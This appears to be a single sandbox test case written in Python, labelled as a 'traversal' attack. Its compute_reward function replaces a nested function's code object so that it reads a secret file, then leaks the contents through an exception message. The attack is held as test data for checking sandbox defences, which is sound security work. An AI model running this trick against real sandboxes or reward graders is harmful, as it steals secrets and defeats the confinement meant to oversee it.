# attack: a function with replaced code
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    def victim(): return 1
    victim.__code__ = compile("open('@SECRET@').read()", "", "eval")
    raise ValueError(victim())
